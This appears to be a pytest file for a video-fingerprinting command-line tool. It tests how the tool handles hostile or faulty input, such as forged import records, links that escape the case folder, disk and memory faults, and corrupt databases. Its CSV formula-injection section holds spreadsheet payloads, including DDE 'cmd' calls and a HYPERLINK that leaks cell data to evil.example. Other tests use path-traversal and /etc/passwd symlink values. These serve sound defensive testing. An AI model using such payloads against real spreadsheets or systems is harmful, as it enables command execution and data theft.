"""Hostile and unlucky input, through the real commands.

Each case is something an attacker or an unlucky user does: formula cells for spreadsheets,
forged partner files, manifest rows that break conversions, links out of the case folder,
environment faults (memory limits, a full disk, a lost database server), broken stores, and
files with no moving picture. Each must end with the documented exit code and one line naming
the file and the reason, and must lose nothing already stored or given in good rows.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import resource
import shutil
import subprocess
import sys
from pathlib import Path

import imageio_ffmpeg
import pytest

from conftest import FIXTURE_VIDEOS, MANIFEST, db_rows, fixture_clip, run
from vidtrace.store import db as store_db
from vidtrace.store import repo

FFMPEG = imageio_ffmpeg.get_ffmpeg_exe()
VIDTRACE = Path(sys.executable).with_name("vidtrace")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def ffmpeg(*args: str) -> None:
    subprocess.run([FFMPEG, "-v", "error", "-y", *args], check=True, stdin=subprocess.DEVNULL)


def stored(store: Path) -> dict:
    """What the store holds that must never be lost: videos (by content), uploads and frames."""
    return {
        "videos": db_rows(store, "SELECT sha256, status FROM videos ORDER BY sha256"),
        "uploads": db_rows(store, "SELECT path, title, url, uploaded_at FROM uploads ORDER BY path"),
        "frames": db_rows(store, "SELECT count(*) FROM frames")[0][0],
    }


def assert_nothing_lost(before: dict, after: dict) -> None:
    assert set(before["videos"]) <= set(after["videos"])
    assert set(before["uploads"]) <= set(after["uploads"])
    assert after["frames"] >= before["frames"]


def ok_shas(store: Path) -> set[str]:
    return {sha for sha, status in db_rows(store, "SELECT sha256, status FROM videos") if status == "ok"}


@pytest.fixture
def case(tmp_path) -> Path:
    """A case folder holding a copy of one short fixture clip as ./clips/good.mp4."""
    folder = tmp_path / "case"
    (folder / "clips").mkdir(parents=True)
    shutil.copy(fixture_clip("a_trimmed.mp4"), folder / "clips" / "good.mp4")
    return folder


def write_manifest(folder: Path, rows: list[dict], name: str = "manifest.jsonl") -> Path:
    path = folder / name
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


GOOD_ROW = {"path": "clips/good.mp4", "account": "good_account", "uploaded_at": "2026-03-02T14:09:00Z", "title": "fine"}


def ingest_manifest(store: Path, manifest: Path):
    result = run(store, "ingest", "--manifest", manifest)
    # the good row is always stored, whatever the bad rows hold
    assert db_rows(store, "SELECT count(*) FROM uploads WHERE path LIKE '%/clips/good.mp4'") == [(1,)]
    return result


# --- CSV formula injection ----------------------------------------------------------------------

HOSTILE_ACCOUNTS = {
    "news_hub": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "patriot_daily": "+cmd|' /C calc'!A0",
    "truth_wave": "@SUM(1+1)*cmd|' /C calc'!A0",
    "voice_of_people": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def hostile_names_store(tmp_path_factory) -> Path:
    """The fixture clips ingested under account names and titles that are spreadsheet formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    shutil.copytree(FIXTURE_VIDEOS, folder / "videos")
    with open(MANIFEST, newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        row["account"] = HOSTILE_ACCOUNTS.get(row["account"], row["account"])
        row["title"] = "=1+1"
    with open(folder / "manifest.csv", "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    store = folder / "store"
    result = run(store, "ingest", "--manifest", folder / "manifest.csv")
    assert result.exit_code == 0, result.stderr
    return store


@pytest.mark.parametrize(
    "command",
    [["matches", "--csv"], ["lookup", "a_trimmed.mp4", "--csv"], ["coordination", "--csv"], ["clusters", "--csv"]],
    ids=["matches", "lookup", "coordination", "clusters"],
)
def test_csv_output_never_starts_a_cell_with_a_formula(hostile_names_store, command):
    if command[0] == "lookup":
        command = ["lookup", fixture_clip("a_trimmed.mp4"), "--csv"]
    result = run(hostile_names_store, *command)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) > 1
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    if command[0] != "clusters":  # clusters list counts and the first poster only
        assert any(c.startswith("'") and c[1:].startswith(FORMULA_START) for c in cells)
    for row in rows[1:]:  # numbers stay numbers
        float(row[0]), float(row[1])


# --- forged or careless partner files ------------------------------------------------------------


@pytest.fixture(scope="module")
def exported(ingested_store, tmp_path_factory) -> list[dict]:
    path = tmp_path_factory.mktemp("export") / "fingerprints.jsonl.gz"
    assert run(ingested_store, "export", path).exit_code == 0
    with gzip.open(path, "rt", encoding="utf-8") as f:
        return [json.loads(line) for line in f]


def _set(record: dict, where: str, value) -> None:
    """Set a field given as 'duration_s', 'frames.0.0' or 'uploads.0.title'."""
    *path, last = where.split(".")
    target = record
    for key in path:
        target = target[int(key)] if isinstance(target, list) else target[key]
    target[int(last) if isinstance(target, list) else last] = value


FORGED = [
    ("duration_s", 0, "duration_s 0 is shorter than its frames"),
    ("duration_s", "20.0", "duration_s must be a number, not text"),
    ("duration_s", 1e300, "duration_s 1e+300 is out of range"),
    ("frames.0.0", float("nan"), "frames[0] time nan is out of range"),
    ("frames.0.0", float("inf"), "frames[0] time inf is out of range"),
    ("frames.0.0", -1.0, "frames[0] time -1.0 is out of range"),
    ("frames.3.0", 1e300, "frames[3] time 1e+300 is out of range"),
    ("frames.0.1", "zz" * 8, "frames[0] hash must be 16 hex digits"),
    ("frames.0.2", 99, "frames[0] region 99 is out of range"),
    ("width", 1e30, "width 1e+30 is out of range"),
    ("height", True, "height must be a number, not true/false"),
    ("fps", float("nan"), "fps nan is out of range"),
    ("sha256", "../../etc/passwd", "sha256 must be 64 lowercase hex digits"),
    ("uploads", "news_hub", "uploads must be a list, not text"),
    ("uploads.0", ["news_hub"], "uploads[0] must be an object, not a list"),
    ("uploads.0.account", "x" * (1 << 20), "uploads[0].account is longer than 1024 bytes"),
    ("uploads.0.account", "news\x00hub", "uploads[0].account contains a NUL byte"),
    ("uploads.0.title", {"text": "evening"}, "uploads[0].title must be text or null, not an object"),
    ("uploads.0.url", "\udc80", "uploads[0].url is not valid Unicode text"),
    (
        "uploads.0.uploaded_at",
        "0001-01-01T00:00:00+01:00",
        "uploads[0].uploaded_at '0001-01-01T00:00:00+01:00' is out of range",
    ),
    ("uploads.0.uploaded_at", "9999-12-31T23:59:59-05:00", "is out of range"),
    ("uploads.0.uploaded_at", "yesterday", "is not an ISO 8601 time"),
]


@pytest.mark.parametrize("where, value, reason", FORGED, ids=[f"{w}={str(v)[:20]!r}" for w, v, _ in FORGED])
def test_import_skips_a_forged_record_with_its_line_and_imports_the_rest(exported, tmp_path, where, value, reason):
    header, good, bad, *_ = exported
    bad = json.loads(json.dumps(bad))
    _set(bad, where, value)
    path = tmp_path / "partner.jsonl.gz"
    with gzip.open(path, "wt", encoding="utf-8", errors="surrogatepass") as f:
        for record in (header, good, bad):
            f.write(json.dumps(record) + "\n")
    store = tmp_path / "store"
    result = run(store, "--quiet", "import", path, "--source", "lab-b")  # stderr: the problems only
    assert result.exit_code == 1, result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"{path}:3: bad video record: ") and reason in lines[0], lines
    assert "Traceback" not in result.stderr
    assert "imported 1 video(s)" in result.stdout and "1 bad record(s) skipped" in result.stdout
    assert ok_shas(store) == {good["sha256"]}


def test_import_skips_lines_that_are_not_records(exported, tmp_path):
    header, good, *_ = exported
    path = tmp_path / "partner.jsonl.gz"
    with gzip.open(path, "wt", encoding="utf-8") as f:
        f.write(json.dumps(header) + "\n" + json.dumps(good) + "\n{not json\n[1, 2]\n" + "[" * 100_000 + "\n")
    result = run(tmp_path / "store", "--quiet", "import", path, "--source", "lab-b")  # stderr: the problems only
    assert result.exit_code == 1
    assert [line.split(": bad video record: ")[0] for line in result.stderr.splitlines()] == [
        f"{path}:{n}" for n in (3, 4, 5)
    ]
    assert "not valid JSON" in result.stderr and "must be a JSON object, not a list" in result.stderr
    assert ok_shas(tmp_path / "store") == {good["sha256"]}


# --- manifest rows whose values fail ------------------------------------------------------------

BAD_ROWS = [
    ({"uploaded_at": "0001-01-01T00:00:00+01:00"}, "uploaded_at '0001-01-01T00:00:00+01:00' is out of range"),
    ({"uploaded_at": "9999-12-31T23:30:00-01:00"}, "is out of range"),
    ({"account": "evil\x00account"}, "account contains a NUL byte"),
    ({"title": "a title\x00with a NUL"}, "title contains a NUL byte"),
    ({"url": "https://x.example/\udcff"}, "url is not valid Unicode text"),
]


@pytest.mark.parametrize("change, reason", BAD_ROWS, ids=[r for _, r in BAD_ROWS])
def test_a_manifest_row_whose_value_fails_is_reported_by_line_and_skipped(case, tmp_path, change, reason):
    shutil.copy(case / "clips" / "good.mp4", case / "clips" / "other.mp4")
    bad = {**GOOD_ROW, "path": "clips/other.mp4", "account": "other", **change}
    path = case / "manifest.jsonl"
    path.write_text(json.dumps(GOOD_ROW) + "\n" + json.dumps(bad) + "\n", encoding="utf-8", errors="surrogatepass")
    store = tmp_path / "store"
    result = ingest_manifest(store, path)
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    assert f"{path}:2: " in result.stderr and reason in result.stderr
    assert "other.mp4" not in " ".join(p for (p,) in db_rows(store, "SELECT path FROM uploads"))


# --- links out of the case folder ---------------------------------------------------------------


@pytest.mark.parametrize("target", ["file", "passwd", "folder"])
def test_a_manifest_link_leading_outside_the_case_folder_is_reported_and_skipped(case, tmp_path, target):
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy(fixture_clip("orig_b.mp4"), outside / "secret.mp4")
    if target == "file":
        (case / "clips" / "link.mp4").symlink_to(outside / "secret.mp4")
        row_path = "clips/link.mp4"
    elif target == "passwd":
        (case / "clips" / "link.mp4").symlink_to("/etc/passwd")
        row_path = "clips/link.mp4"
    else:
        (case / "clips" / "linked").symlink_to(outside)
        row_path = "clips/linked/secret.mp4"
    manifest = write_manifest(case, [GOOD_ROW, {"path": row_path, "account": "sneaky"}])
    store = tmp_path / "store"
    result = ingest_manifest(store, manifest)
    assert result.exit_code == 1
    assert (
        f"{manifest}:2: path {row_path!r} is a link to " in result.stderr
        and "outside the manifest's folder" in result.stderr
    )
    assert db_rows(store, "SELECT count(*) FROM uploads") == [(1,)]
    assert len(ok_shas(store)) == 1


def test_a_walked_link_leading_outside_the_root_is_reported_and_skipped(case, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy(fixture_clip("orig_b.mp4"), outside / "secret.mp4")
    root = case / "clips"
    (root / "acct").mkdir()
    shutil.move(root / "good.mp4", root / "acct" / "good.mp4")
    (root / "acct" / "link.mp4").symlink_to(outside / "secret.mp4")
    (root / "acct" / "dirlink").symlink_to(outside)
    store = tmp_path / "store"
    result = run(store, "ingest", root)
    assert result.exit_code == 1, result.stderr  # inputs were refused: the exit code says so
    assert f"{root / 'acct' / 'link.mp4'}: a link to a file outside {root}" in result.stderr
    assert f"{root / 'acct' / 'dirlink'}: a link to a folder outside {root}" in result.stderr
    assert [p for (p,) in db_rows(store, "SELECT path FROM uploads")] == [str(root / "acct" / "good.mp4")]


# --- environment faults ---------------------------------------------------------------------------


def test_a_hard_memory_limit_below_the_decode_limit_is_used_not_blamed_on_the_files(case, tmp_path):
    """Under `ulimit -v` of 1800 MiB (below the 2048 MiB ffmpeg would get) files decode."""
    limit = 1800 * 1024 * 1024

    def limited():
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    store = tmp_path / "store"
    done = subprocess.run(
        [str(VIDTRACE), "--store", str(store), "ingest", str(case / "clips")],
        capture_output=True, text=True, preexec_fn=limited, timeout=600,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "0 failed" in done.stdout and "ulimit" not in done.stderr
    assert len(ok_shas(store)) == 1


def test_a_memory_limit_too_low_to_decode_stops_the_run_with_exit_3_and_blames_no_file(case, tmp_path, monkeypatch):
    store = tmp_path / "store"
    assert run(store, "ingest", "--manifest", write_manifest(case, [GOOD_ROW])).exit_code == 0
    before = stored(store)
    shutil.copy(fixture_clip("orig_b.mp4"), case / "clips" / "new.mp4")
    monkeypatch.setattr("vidtrace.decode._hard_limit_mb", lambda: 100)
    result = run(store, "ingest", case / "clips")
    assert result.exit_code == 3
    assert (
        result.stderr.strip()
        .splitlines()[-1]
        .startswith("Error: this process may use at most 100 MiB of address space")
    )
    assert db_rows(store, "SELECT count(*) FROM videos WHERE status = 'failed'") == [(0,)]
    assert_nothing_lost(before, stored(store))


def test_a_full_disk_while_saving_the_index_stops_with_exit_3_and_the_next_run_heals(case, tmp_path, monkeypatch):
    import vidtrace.index.faiss_binary

    store = tmp_path / "store"
    assert run(store, "ingest", "--manifest", write_manifest(case, [GOOD_ROW])).exit_code == 0
    shutil.copy(fixture_clip("orig_b.mp4"), case / "clips" / "new.mp4")
    before = stored(store)
    write = vidtrace.index.faiss_binary.faiss.write_index_binary
    monkeypatch.setattr(
        vidtrace.index.faiss_binary.faiss, "write_index_binary", lambda index, path: write(index, "/dev/full")
    )
    result = run(store, "ingest", case / "clips")
    assert result.exit_code == 3
    line = result.stderr.strip().splitlines()[-1]
    assert line.startswith(f"Error: cannot save the frame index {store / 'frames.faiss'}: No space left on device"), (
        line
    )
    assert "Traceback" not in result.stderr
    after = stored(store)
    assert_nothing_lost(before, after)
    assert len(ok_shas(store)) == 2 and not db_rows(store, "SELECT * FROM videos WHERE status = 'failed'")
    assert db_rows(store, "SELECT count(*) FROM scans WHERE status = 'running'") == [
        (0,)
    ]  # the scan is recorded as ended
    monkeypatch.undo()
    assert run(store, "ingest", case / "clips").exit_code == 0
    doctor = run(store, "doctor")
    assert doctor.exit_code == 0, doctor.stdout


def test_a_database_server_lost_mid_ingest_stops_with_exit_3(case, tmp_path, pg_url, monkeypatch):
    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url

    for n in range(3):
        shutil.copy(fixture_clip(("orig_a.mp4", "orig_b.mp4", "unrelated_c.mp4")[n]), case / "clips" / f"v{n}.mp4")
    real = repo.add_video
    calls = []

    def add_then_lose_the_server(session, *args, **kwargs):
        calls.append(1)
        if len(calls) == 3:  # two videos committed, then the server drops every connection
            admin = create_engine(pg_url, isolation_level="AUTOCOMMIT")
            with admin.connect() as conn:
                conn.execute(
                    text(
                        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = :db AND pid <> pg_backend_pid()"
                    ),
                    {"db": make_url(pg_url).database},
                )
            admin.dispose()
        return real(session, *args, **kwargs)

    monkeypatch.setattr(repo, "add_video", add_then_lose_the_server)
    result = run(tmp_path / "store", "ingest", case / "clips", db_url=pg_url)
    assert result.exit_code == 3, result.stderr
    line = result.stderr.strip().splitlines()[-1]
    assert line.startswith("Error: cannot reach database postgresql+psycopg://") and "(lost or refused)" in line, line
    assert "Traceback" not in result.stderr
    engine = create_engine(pg_url)
    with engine.connect() as conn:
        kept = conn.execute(text("SELECT count(*) FROM videos WHERE status = 'ok'")).scalar()
        failed = conn.execute(text("SELECT count(*) FROM videos WHERE status = 'failed'")).scalar()
    engine.dispose()
    assert kept == 2 and failed == 0


# --- broken stores ----------------------------------------------------------------------------------


@pytest.fixture
def corrupt_store(tmp_path) -> Path:
    store = tmp_path / "store"
    store.mkdir()
    (store / "vidtrace.db").write_bytes(b"this is no database " * 500)
    return store


@pytest.mark.parametrize(
    "command",
    ["doctor", "doctor --repair", "matches", "clusters", "coordination", "lookup CLIP", "ingest ROOT", "rescan",
     "export OUT", "report --html OUT", "index build", "db current", "db upgrade"],
)  # fmt: skip
def test_a_corrupt_sqlite_file_gives_one_line_from_every_command(corrupt_store, tmp_path, command):
    before = (corrupt_store / "vidtrace.db").read_bytes()
    args = [
        a.replace("CLIP", str(fixture_clip("a_trimmed.mp4"))).replace("ROOT", str(FIXTURE_VIDEOS))
        for a in command.split()
    ]
    args = [str(tmp_path / "out.file") if a == "OUT" else a for a in args]
    result = run(corrupt_store, *args)
    assert result.exit_code == 3, (result.stdout, result.stderr)
    assert result.stderr.strip().splitlines() == [
        f"Error: {corrupt_store / 'vidtrace.db'} is not a readable SQLite database (file is not a database); "
        "restore it from a backup or move it away and re-ingest"
    ]
    assert (corrupt_store / "vidtrace.db").read_bytes() == before


def test_a_damaged_page_in_the_database_gives_the_same_line(tmp_path, ingested_store):
    store = tmp_path / "store"
    shutil.copytree(ingested_store, store)
    conn = __import__("sqlite3").connect(store / "vidtrace.db")
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    with open(store / "vidtrace.db", "r+b") as f:
        f.seek(4096 * 3)
        f.write(b"\xff" * 4096 * 20)
    result = run(store, "doctor")
    assert result.exit_code == 3
    assert result.stderr.startswith(
        f"Error: {store / 'vidtrace.db'} is not a readable SQLite database (database disk image is malformed)"
    )


def test_an_index_copied_from_another_store_of_the_same_files_is_detected_and_rebuilt(tmp_path):
    first, second = FIXTURE_VIDEOS / "news_hub", FIXTURE_VIDEOS / "truth_wave"
    mine, theirs = tmp_path / "mine", tmp_path / "theirs"
    for store, roots in ((mine, (first, second)), (theirs, (second, first))):
        for root in roots:
            assert run(store, "ingest", root).exit_code == 0
    record = json.loads((mine / "frames.faiss.json").read_text())
    foreign = json.loads((theirs / "frames.faiss.json").read_text())
    assert [record[k] for k in ("count", "max_id", "id_sum")] == [foreign[k] for k in ("count", "max_id", "id_sum")]
    before = stored(mine)
    for name in ("frames.faiss", "frames.faiss.json"):
        shutil.copy(theirs / name, mine / name)

    doctor = run(mine, "doctor")
    assert doctor.exit_code == 1
    assert (
        f"FAIL  index: index holds {record['count']} frames with the database's ids but other hashes" in doctor.stdout
    )

    found = json.loads(run(mine, "lookup", fixture_clip("a_trimmed.mp4"), "--json").stdout)
    best = found["matches"][0]
    assert best["score"] >= 0.99 and best["uploads"][0]["path"].endswith("truth_wave/a_trimmed.mp4")
    assert run(mine, "doctor", "--repair").exit_code == 0
    assert run(mine, "doctor").exit_code == 0
    assert_nothing_lost(before, stored(mine))


# --- no moving picture; stale records and files -------------------------------------------------------


@pytest.mark.parametrize("kind", ["png image", "jpeg image", "mp3 with cover art", "m4a with cover art"])
def test_a_still_picture_is_reported_as_no_moving_picture(case, tmp_path, kind):
    picture = tmp_path / "picture.jpg"
    ffmpeg("-f", "lavfi", "-i", "testsrc2=s=320x240", "-frames:v", "1", str(picture))
    name = {
        "png image": "still.png",
        "jpeg image": "still.jpg",
        "mp3 with cover art": "song.mp3",
        "m4a with cover art": "song.m4a",
    }[kind]
    target = case / "clips" / name
    if kind == "png image":
        ffmpeg("-i", str(picture), str(target))
    elif kind == "jpeg image":
        shutil.copy(picture, target)
    else:
        codec = ["-c:a", "libmp3lame", "-c:v", "mjpeg"] if name.endswith(".mp3") else ["-c:a", "aac", "-c:v", "png"]
        ffmpeg("-f", "lavfi", "-i", "sine=f=440:d=3", "-i", str(picture), "-map", "0", "-map", "1", *codec,
               "-disposition:v", "attached_pic", str(target))  # fmt: skip
    manifest = write_manifest(case, [GOOD_ROW, {"path": f"clips/{name}", "account": "still"}])
    store = tmp_path / "store"
    result = ingest_manifest(store, manifest)
    assert result.exit_code == 1
    assert f"{target}: no moving picture (a single image)" in result.stderr
    assert len(ok_shas(store)) == 1
    assert db_rows(store, "SELECT error FROM videos WHERE status = 'failed'") == [
        ("no moving picture (a single image)",)
    ]


def test_doctor_stops_reporting_a_killed_scan_once_a_later_scan_finished(case, tmp_path):
    store = tmp_path / "store"
    manifest = write_manifest(case, [GOOD_ROW])
    assert run(store, "ingest", "--manifest", manifest).exit_code == 0
    opened = store_db.Store.open(store_db.StoreLocation.resolve(store), create=False)
    with opened.session() as session:  # what a killed run leaves: a scan started, never finished
        killed = repo.start_scan(session, "ingest", [{"root": None, "manifest": str(manifest)}])
        session.commit()
    opened.close()
    doctor = run(store, "doctor")
    assert doctor.exit_code == 1 and "FAIL  scans: 1 scan(s) never finished" in doctor.stdout
    assert run(store, "ingest", "--manifest", manifest).exit_code == 0
    doctor = run(store, "doctor")
    assert doctor.exit_code == 0, doctor.stdout
    assert "ok    scans: every scan finished or was resumed by a later one (1 stopped early)" in doctor.stdout
    assert db_rows(store, f"SELECT status FROM scans WHERE id = {killed}") == [("running",)]


def test_an_export_leaves_no_named_partial_file_while_it_writes(ingested_store, tmp_path, monkeypatch):
    import vidtrace.exchange as exchange

    out = tmp_path / "out"
    out.mkdir()
    seen = []
    real = exchange._export_record

    def looking(video, with_metadata):
        seen.append(sorted(p.name for p in out.iterdir()))
        return real(video, with_metadata)

    monkeypatch.setattr(exchange, "_export_record", looking)
    assert run(ingested_store, "export", out / "fp.jsonl.gz").exit_code == 0
    assert len(seen) == 6 and all(names == [] for names in seen)  # a kill at any of these points leaves nothing
    assert sorted(p.name for p in out.iterdir()) == ["fp.jsonl.gz"]


def test_an_interrupted_export_leaves_nothing_and_a_killed_ones_leftovers_are_removed(
    ingested_store, tmp_path, monkeypatch
):
    import vidtrace.exchange as exchange

    out = tmp_path / "out"
    out.mkdir()
    target = out / "fp.jsonl.gz"
    dead_pid = _dead_pid()
    (out / ".fp.jsonl.gz.partial").write_bytes(b"left by a killed run")
    (out / f".fp.jsonl.gz.{dead_pid}-0badc0de.partial").write_bytes(b"left by a killed run")
    real = exchange._export_record
    count = []

    def interrupted(video, with_metadata):
        count.append(1)
        if len(count) == 3:
            raise KeyboardInterrupt
        return real(video, with_metadata)

    monkeypatch.setattr(exchange, "_export_record", interrupted)
    result = run(ingested_store, "export", target)
    assert result.exit_code == 130 and result.stderr.strip() == "Interrupted."
    assert list(out.iterdir()) == []
    monkeypatch.undo()
    assert run(ingested_store, "export", target).exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == ["fp.jsonl.gz"]


def _dead_pid() -> int:
    """The id of a process that has ended."""
    child = subprocess.Popen(["true"])
    child.wait()
    return child.pid
